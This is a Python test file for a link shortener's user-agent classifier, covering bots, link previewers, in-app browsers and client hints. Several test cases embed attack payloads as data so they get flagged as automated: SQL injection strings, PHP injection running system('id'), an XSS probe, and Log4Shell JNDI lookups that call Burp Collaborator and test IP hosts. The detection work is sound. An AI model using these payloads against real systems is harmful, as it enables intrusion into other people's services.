"""The visitor classifier over a corpus of real user agents, expected outputs in full."""

from __future__ import annotations

import json

import msgspec
import pytest

from shortlink.visits.classify import classify
from tests.support import paths

CORPUS = json.loads((paths.CORPUS / "user_agents.json").read_text("utf-8"))


def test_the_corpus_covers_every_class():
    assert len(CORPUS) >= 60
    expected = [row["expect"] for row in CORPUS]
    assert {e["kind"] for e in expected} == {"bot", "desktop", "ios", "android"}
    for os in ("iOS", "Android"):
        apps = {e["in_app"] for e in expected if e["os"] == os and e["in_app"]}
        assert {
            "instagram",
            "facebook",
            "messenger",
            "threads",
            "tiktok",
            "snapchat",
            "whatsapp",
            "line",
            "wechat",
            "qq",
            "google",
            "viber",
        } <= apps, os
    assert {e["browser"] for e in expected if e["kind"] == "android" and not e["in_app"]} == {
        "chrome",
        "firefox",
        "samsung",
        "other",
    }


@pytest.mark.parametrize("row", CORPUS, ids=[row["name"] for row in CORPUS])
def test_corpus(row):
    visitor = classify(row["ua"], row.get("ch_platform", ""), row.get("ch_mobile", ""))
    assert msgspec.structs.asdict(visitor) == row["expect"]


def test_the_corpus_holds_every_previewer_the_issue_names():
    agents = " ".join(row["ua"] for row in CORPUS if row["expect"]["is_bot"]).lower()
    for token in (
        "facebookexternalhit",
        "facebot",
        "twitterbot",
        "slackbot",
        "slack-imgproxy",
        "discordbot",
        "whatsapp/",
        "telegrambot",
        "linkedinbot",
        "applebot",
        "iframely",
        "embedly",
        "skypeuripreview",
        "pinterestbot",
        "redditbot",
        "mastodon/",
        "google-pagerenderer",
        "vkshare",
        "bluesky cardyb",
        "thirdlandingpagefeinfra",
        "googlemessages",
    ):
        assert token in agents, token


def test_whatsapp_previewer_and_in_app_browser_are_told_apart():
    assert classify("WhatsApp/2.23.20.0 A").is_bot
    in_app = classify(
        "Mozilla/5.0 (Linux; Android 13; SM-S918B Build/TP1A.220624.014; wv) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 "
        "Mobile Safari/537.36 WhatsApp/2.23.24.76"
    )
    assert not in_app.is_bot and in_app.in_app == "whatsapp" and in_app.kind == "android"


def test_client_hints_refine_a_reduced_user_agent():
    linux = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    assert classify(linux).kind == "desktop"
    assert classify(linux, '"Android"', "?1").kind == "android"
    assert classify(linux, "", "?1").kind == "android"  # mobile hint, platform hint missing
    assert classify(linux, '"Linux"', "?0").kind == "desktop"


def test_a_preview_agent_never_counts_as_a_person_even_with_client_hints():
    assert classify("facebookexternalhit/1.1", '"Android"', "?1").is_bot


def test_results_are_memoised():
    classify.cache_clear()
    ua = CORPUS[0]["ua"]
    assert classify(ua) is classify(ua)
    info = classify.cache_info()
    assert info.hits == 1 and info.maxsize == 4096


def test_agents_the_issue_names_are_bots():
    for agent in (
        "Amazon Route 53 Health Check Service; ref:0a1b2c",
        "Chrome Privacy Preserving Prefetch Proxy",
        "IFTTT/1.0",
        "Notion/1.0",
        "Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)",
        "meta-externalads/1.1",
        "Mozilla/5.0 (compatible; AlertSite; +http://www.alertsite.com)",
        "cohere-ai",
        "Anthropic-Claude/1.0",
        "search.marginalia.nu",
        "${jndi:ldap://192.0.2.1/a}",
        "phpMyAdmin/reporting-script",
    ):
        assert classify(agent).is_bot, agent


@pytest.mark.parametrize(
    "agent",
    [
        "PostmanRuntime/7.29.0",
        "Java/1.8.0_121",
        "GuzzleHttp/7",
        "PycURL/7.13.2",
        "Apache Httpclient",
        "PHP/5.3.84",
        "Zend_Http_Client",
        "mozilla/5.0 (x11; linux x86_64; splunk synthetics) applewebkit/537.36 (khtml, like gecko) "
        "chrome/91.0.4472.114 safari/537.36",
        "Mozilla/5.0 (compatible; Windows NT 6.1; Catchpoint) AppleWebKit/537.36 (KHTML like Gecko) "
        "Chrome/43.0.2357.81 Safari/537.36",
        "Bitrix link preview",
        "nginx-ssl early hints",
        "Is is up? (+https://isitup.org)",
        "Braze Sender 75e404755ae1270441f07eb238f0faf25e44dfdc",
    ],
)
def test_agents_no_list_named_are_bots(agent):
    """Agents reported as counted as people: libraries, monitors, previewers."""
    assert classify(agent).is_bot


def test_an_http_library_naming_a_phone_in_the_usual_place_is_still_a_bot():
    # The engine rule alone would pass it: the program's words decide.
    assert classify("okhttp/4.12.0 (Linux; Android 14; Pixel 8) Mobile").is_bot
    assert classify("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 python-requests/2.32").is_bot


def test_a_crawler_posing_as_an_in_app_browser_is_a_bot_but_the_app_itself_is_a_person():
    iphone = (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Mobile/11A465"
    )
    assert classify(iphone + " Twitter for iPhone BrandVerity/1.0 (http://www.brandverity.com/why)").is_bot
    meta = classify(
        "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook"
    )
    assert not meta.is_bot and meta.in_app == "facebook"


def test_a_phone_model_named_like_a_crawler_is_a_person():
    htc = (
        "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/31.0.1650.59 Mobile Safari/537.36"
    )
    assert not classify(htc).is_bot
    assert classify(htc.replace("Safari/537.36", "Safari/537.36 (compatible; Butterfly/1.0)")).is_bot


CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)


@pytest.mark.parametrize(
    "agent",
    [
        # Published by isbot (fixtures/crawlers.yml): Burp Suite's out-of-band probes.
        "Godzilla/17.0 (Unknown Operator; Nexus 5X Build/MMB29P) NoWebKit/5.36 (DOM, like Rhino; "
        "n7vbji2k0wt3rsbev55blgx17sdk8lwek97zvo.burpcollaborator.net) TOR/540.5.35487 Torrent 2654.76",
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.142 "
        "Safari/537.36'+(select load_file('x97bjuqgzjb9cjiodeygpdyxkoqledf164uzhp5e.burpcollaborator.netszc'))+'",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 "
        "Safari/537.36 root@8f6gtjctw9glvnasfrq438tprig56wty20ghwkf9.burpcollaborator.net",
        # Published by isbot among its browsers ("glitches"): payloads without a browser around them.
        "LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--",
        'Mozilliqa"<?=print(9347655345-4954366);?>"',
        # The same payloads a scanner appends to a real browser's agent.
        CHROME + "' OR 1=1--",
        CHROME + "' or '1'='1",
        CHROME + '") OR ("a"="a',
        CHROME + "' UNION SELECT NULL,NULL--",
        CHROME + " UNION ALL SELECT 1,2,3",
        CHROME + "' AND SLEEP(5)#",
        CHROME + "'; WAITFOR DELAY '0:0:5'--",
        CHROME + "<?=print(9347655345-4954366);?>",
        CHROME + "<?php system('id'); ?>",
        CHROME + "<script>alert(1)</script>",
        CHROME + "${jndi:ldap://x.burpcollaborator.net/a}",
        CHROME + " ${jndi:dns://192.0.2.1/a}",
        CHROME + " x.oastify.com",
    ],
)
def test_agents_carrying_an_attack_payload_are_automated(agent):
    assert classify(agent).is_bot


@pytest.mark.parametrize(
    "agent",
    [
        # Words the payload rule reads, in agents people send.
        CHROME + " OPR/114.0.0.0 (Edition std-1)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.52.103;FBBV/612284364;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;"
        "FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/614826045]",
    ],
)
def test_people_are_not_taken_for_payloads(agent):
    assert not classify(agent).is_bot


def test_wechat_and_qq_browsers_are_people_in_their_app():
    """isbot lists these X5-engine agents ("MQQBrowser/6.2 TBS/…") as crawlers: they are WeChat's
    and QQ's in-app browsers, a person opening a link (docs/bots.md)."""
    by_name = {row["name"]: row for row in CORPUS}
    for name, app in (
        ("android wechat x5 tbs", "wechat"),
        ("android wechat x5 tbs glued", "wechat"),
        ("android qq x5 tbs", "qq"),
        ("iphone qq", "qq"),
    ):
        visitor = classify(by_name[name]["ua"])
        assert not visitor.is_bot and visitor.in_app == app, name


def test_bare_app_agents_of_facebook_and_google_are_people_but_not_other_apps():
    facebook = classify(
        "[FBAN/FB4A;FBAV/567.1.0.52.74;FBBV/1003893689;FBDM/{density=3.0,width=1080,height=2340};FBLC/nl_NL;"
        "FBRV/1012267334;FBCR/NL KPN;FBMF/samsung;FBBD/samsung;FBPN/com.facebook.katana;FBDV/SM-S921B;FBSV/16;"
        "FBOP/1;FBCA/arm64-v8a:;]"
    )
    assert (facebook.is_bot, facebook.kind, facebook.in_app) == (False, "android", "facebook")
    google = classify("GoogleApp/14.35.18.28.arm64")
    assert (google.is_bot, google.kind, google.in_app) == (False, "android", "google")
    # Another app's bare agent is its HTTP client (Viber's link fetcher), still a program.
    assert classify("Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0").is_bot
    # The app's token is no pass for a program's words or a payload beside it.
    assert classify("GoogleApp/14.35.18.28.arm64 python-requests/2.32").is_bot
    assert classify("[FBAN/FB4A;FBAV/567.1.0.52.74;FBPN/com.facebook.katana;]' OR 1=1--").is_bot
